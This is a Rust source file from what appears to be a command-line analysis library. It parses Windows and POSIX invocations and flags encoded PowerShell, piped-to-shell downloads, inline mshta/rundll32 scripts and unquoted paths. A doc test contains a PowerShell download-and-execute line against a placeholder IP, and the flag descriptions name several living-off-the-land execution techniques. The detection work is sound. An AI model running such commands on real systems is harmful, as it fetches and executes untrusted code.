//! What a command line runs: the program, its arguments, and the files and addresses it
//! hands on to (a script for `powershell -File`, a DLL for `rundll32`, a URL for `mshta`),
//! as the Windows and POSIX command-line parsers both describe it.
use serde::Serialize;

crate::named_enum! {
    /// What a command line hands on to.
    pub enum TargetKind {
        /// The program that is started.
        Program => "program",
        /// A DLL it loads (`rundll32`, `regsvr32`, a service's `ServiceDll`).
        Dll => "dll",
        /// A script it runs (`powershell -File`, `wscript`, `sh script`).
        Script => "script",
        /// An address it fetches or runs from (`mshta http://…`, `regsvr32 /i:http://…`,
        /// `curl http://…`).
        Url => "url",
        /// Another file named as an argument (a UNC path, an installer package).
        File => "file",
    }
}

crate::named_enum! {
    /// What the parse of a command line noticed.
    pub enum CommandFlag {
        /// A path with spaces and no quotes: the loader tries each prefix (`C:\Program.exe`
        /// first), see `candidates`.
        UnquotedPathWithSpaces => "unquoted_path_with_spaces",
        /// A base64-encoded PowerShell command (`-EncodedCommand`, `-enc`, `-e`), decoded.
        EncodedCommand => "encoded_command",
        /// An encoded command that is not valid base64 / UTF-16LE.
        EncodedCommandNotDecoded => "encoded_command_not_decoded",
        /// A download piped into a shell (`curl … | sh`).
        PipedToShell => "piped_to_shell",
        /// Script code on the command line itself (`mshta vbscript:…`, `rundll32 javascript:…`,
        /// `powershell -Command …`, `sh -c …`).
        InlineScript => "inline_script",
        /// An environment variable the image does not define was left as written.
        UnexpandedVariable => "unexpanded_variable",
        /// A quote that is never closed.
        UnterminatedQuote => "unterminated_quote",
    }
}

/// One file or address a command line runs or hands on to.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, schemars::JsonSchema)]
pub struct RunTarget {
    /// What it is.
    pub kind: TargetKind,
    /// The path or address, environment variables expanded.
    pub path: String,
    /// `rundll32`'s entry point.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub entry: Option<String>,
    /// The program that hands it on (`rundll32.exe`, `powershell.exe -File`, `sh -c`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub via: Option<String>,
}

/// A command line, taken apart the way its runner takes it apart.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, schemars::JsonSchema)]
pub struct Invocation {
    /// The command line as run: program and arguments, environment variables expanded.
    pub command_line: String,
    /// The program as the runner finds it in the line (`argv[0]`).
    pub program: String,
    /// The arguments, as the program receives them.
    pub args: Vec<String>,
    /// The program first, then every file or address it hands on to, in order.
    pub targets: Vec<RunTarget>,
    /// For an unquoted path with spaces: the paths the loader tries, in its order.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub candidates: Vec<String>,
    /// Decoded payloads (a PowerShell `-EncodedCommand`'s script).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub decoded: Vec<String>,
    /// What the parse noticed.
    pub flags: Vec<CommandFlag>,
    /// Environment variables that could not be expanded, by name.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub unexpanded: Vec<String>,
}

impl Invocation {
    /// Add a flag once.
    pub fn flag(&mut self, f: CommandFlag) {
        if !self.flags.contains(&f) {
            self.flags.push(f);
        }
    }

    /// Add a target unless the same kind and path is already there.
    pub fn target(
        &mut self,
        kind: TargetKind,
        path: String,
        entry: Option<String>,
        via: Option<String>,
    ) {
        if path.is_empty()
            || self
                .targets
                .iter()
                .any(|t| t.kind == kind && t.path == path)
        {
            return;
        }
        self.targets.push(RunTarget {
            kind,
            path,
            entry,
            via,
        });
    }
}

/// The `http://`, `https://` and `ftp://` addresses in a text, each up to the first space,
/// quote or closing bracket.
///
/// ```
/// assert_eq!(foothold_core::urls_in("iex (iwr 'http://203.0.113.9/a.ps1')"), ["http://203.0.113.9/a.ps1"]);
/// ```
pub fn urls_in(text: &str) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let mut out = Vec::new();
    // `lower` is `text` ASCII-lowercased: the same length and character boundaries.
    let mut from = 0usize;
    while let Some(i) = ["http://", "https://", "ftp://"]
        .iter()
        .filter_map(|p| lower.get(from..)?.find(p).map(|i| i.saturating_add(from)))
        .min()
    {
        let rest = text.get(i..).unwrap_or_default();
        let len = rest
            .find(|c: char| c.is_whitespace() || "'\"`)>;|".contains(c))
            .unwrap_or(rest.len());
        let url = rest.get(..len).unwrap_or(rest).trim_end_matches([',', '.']);
        if !out.iter().any(|u: &String| u == url) {
            out.push(url.to_string());
        }
        // Past the URL (at least one byte: "://" is ASCII).
        from = i.saturating_add(len.max(1));
    }
    out
}

/// Standard base64 (RFC 4648, `+/`, padding optional, whitespace ignored); `None` on any
/// other character.
///
/// ```
/// assert_eq!(foothold_core::base64_decode("aGk=").as_deref(), Some(&b"hi"[..]));
/// assert_eq!(foothold_core::base64_decode("aGk").as_deref(), Some(&b"hi"[..]));
/// assert!(foothold_core::base64_decode("a$").is_none());
/// ```
pub fn base64_decode(text: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity((text.len() / 4).saturating_mul(3));
    let mut acc: u32 = 0;
    let mut bits = 0u32;
    for c in text.bytes() {
        // Each arm's subtraction stays inside its range.
        let v = match c {
            b'A'..=b'Z' => c.wrapping_sub(b'A'),
            b'a'..=b'z' => c.wrapping_sub(b'a').wrapping_add(26),
            b'0'..=b'9' => c.wrapping_sub(b'0').wrapping_add(52),
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            b'=' => break,
            b' ' | b'\t' | b'\r' | b'\n' => continue,
            _ => return None,
        };
        // At most 13 bits are held: 6 new ones on top of fewer than 8.
        acc = (acc << 6) | u32::from(v);
        bits = bits.wrapping_add(6);
        if bits >= 8 {
            bits = bits.wrapping_sub(8);
            out.push((acc >> bits) as u8);
            acc &= 1u32.wrapping_shl(bits).wrapping_sub(1);
        }
    }
    Some(out)
}
